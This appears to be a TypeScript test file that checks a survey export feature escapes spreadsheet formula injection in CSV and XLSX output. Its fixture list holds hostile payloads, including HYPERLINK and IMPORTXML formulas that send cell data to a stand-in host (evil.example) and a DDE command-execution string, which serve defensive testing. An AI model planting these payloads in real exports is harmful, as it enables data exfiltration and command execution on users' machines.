import { read, utils } from '@e965/xlsx'
import { describe, expect, it } from 'vitest'
import { FormContent } from '#/api/kpi/form/schema.ts'
import { formColumns } from '#/dataset/model/columns.ts'
import { formOf } from '#/dataset/sources/kpi/questions.ts'
import type { ExportFormat, ExportJob, ExportResult, WorkerMessage } from '#/features/export/export-job.ts'
import { planSheet } from '#/features/export/export-plan.ts'
import { createExportHandler } from '#/features/export/export-writer-host.ts'
import { i18n, startI18n } from '#/i18n/i18n.ts'
import { escapeFormula } from '#/lib/spreadsheet/escape-formula.ts'
import { hostileValues } from './values.ts'

/** Texts that spreadsheet programs would compute as formulas, with prefixes that hide them. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u200B=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '","=1+1","',
  ';=1+1;',
  '"\r\n=1+1',
  '=1+1\n=2',
  '_x003D_1+1',
]
const VALUES = [...hostileValues, ...FORMULAS]

const TYPES = ['text', 'integer', 'date', 'datetime', 'time', 'geopoint', 'image', 'calculate']

/** Each value as an answer of every type, as label and value of a choice, as a question, and inside a group. */
const content = FormContent.parse({
  survey: [
    ...TYPES.map((type) => ({ type, name: type, $xpath: type, label: [`${type} =1+1`] })),
    { type: 'select_one', name: 'one', $xpath: 'one', label: ['=one'], select_from_list_name: 'list' },
    { type: 'select_multiple', name: 'many', $xpath: 'many', label: ['@many'], select_from_list_name: 'list' },
    { type: 'begin_repeat', name: 'again', $xpath: 'again', label: ['=again/[]'] },
    { type: 'text', name: 'inner', $xpath: 'again/inner', label: ['+inner'] },
    { type: 'end_repeat' },
  ],
  choices: VALUES.map((value, index) => ({ list_name: 'list', name: `c${index}`, label: [value] })),
  translations: ['English (en)'],
})
const rows = VALUES.map((value, index) => ({
  _id: index + 1,
  _uuid: value,
  _submitted_by: value,
  _submission_time: value,
  ...Object.fromEntries(TYPES.map((type) => [type, value])),
  one: `c${index}`,
  many: `c${index} ${value}`,
  again: [{ 'again/inner': value }],
  [`older ${value}`]: value,
}))

async function exportFile(
  format: ExportFormat,
  language: number | null,
  separator: ExportJob['csv']['separator'] = ',',
) {
  await startI18n()
  await i18n.loadNamespaces(['exporting', 'submissions'])
  const texts = {
    t: i18n.getFixedT('en', ['exporting', 'submissions']),
    timeZone: 'UTC',
    display: { t: i18n.getFixedT('en', 'submissions'), locale: 'en' },
  }
  const options = { format, language, groupNames: true, choiceColumns: false, metadata: true }
  const messages: WorkerMessage[] = []
  const handle = createExportHandler((message) => messages.push(message))
  const job: ExportJob = {
    format,
    sheet: planSheet(formColumns(formOf(content)), options, texts, "=Sheet'[1]"),
    includeUnknown: true,
    sort: null,
    csv: { separator, decimal: separator === ';' ? ',' : '.' },
    geometry: format === 'geojson' ? { key: 'geopoint', isArea: false } : null,
    entryHeaders: { index: '=i', parentSheet: '=s', parentIndex: '=p', submission: '=u' },
  }
  await handle({ type: 'start', job })
  await handle({ type: 'rows', rows })
  await handle({ type: 'finish' })
  const done = messages.at(-1)
  if (done?.type !== 'done') throw new Error(JSON.stringify(done))
  return done.result
}

/** Reads a file without computing formulas or converting texts. */
async function sheetsOf({ file }: ExportResult, FS = ',') {
  const { Sheets } = read(await file.arrayBuffer(), { type: 'array', raw: true, cellFormula: true, FS })
  return Object.values(Sheets)
}

const cellsOf = (sheet: object) => Object.entries(sheet).filter(([at]) => !at.startsWith('!'))
/** Normalizes line ends. */
const sameLines = (text: unknown) => String(text).replaceAll(/\r\n?/g, '\n')

describe.each([0, null])('With labels of the language %s', (language) => {
  it.each([',', ';'] as const)('CSV with "%s" contains no formulas, and complete answers', async (separator) => {
    const [sheet = {}] = await sheetsOf(await exportFile('csv', language, separator), separator)
    const table = utils.sheet_to_json<string[]>(sheet, { header: 1, defval: '', blankrows: true })
    const isFormula = (text: string) => escapeFormula(text) !== text
    expect(table.flat().map(String).filter(isFormula)).toEqual([])
    expect(table).toHaveLength(rows.length + 1)
    expect(new Set(table.map(({ length }) => length)).size).toBe(1)
    const wrong = VALUES.filter(
      (value, index) => sameLines(table[index + 1]?.[0]) !== sameLines(escapeFormula(value).toWellFormed()),
    )
    expect(wrong).toEqual([])
  })

  it('XLSX contains no formulas, and complete answers except for characters that XML does not allow', async () => {
    const result = await exportFile('xlsx', language)
    const sheets = await sheetsOf(result)
    expect(sheets).toHaveLength(2)
    for (const [at, cell] of sheets.flatMap(cellsOf)) {
      expect('f' in cell || 'F' in cell, at).toBe(false)
      expect(['s', 'n'], at).toContain(cell.t)
    }
    const [sheet = {}] = sheets
    const shown = new Map(cellsOf(sheet))
    const wrong = VALUES.filter((value, index) => {
      const cell: { v?: unknown } | undefined = shown.get(`A${index + 2}`)
      // The reader decodes `_x003D_`, as Excel does.
      return sameLines(cell?.v ?? '') !== sameLines(inXml(value))
    })
    expect(wrong).toEqual([])
  })

  it('GeoJSON contains the texts unchanged', async () => {
    const { file, rows: count, withoutGeometry } = await exportFile('geojson', language)
    const { features } = JSON.parse(await file.text()) as { features: unknown[] }
    expect(features.length + withoutGeometry).toBe(count)
  })
})

const inXml = (text: string) =>
  text.replaceAll(/[^\t\n\r\u0020-\u{D7FF}\u{E000}-\u{FFFD}\u{10000}-\u{10FFFF}]/gu, '\u{FFFD}')
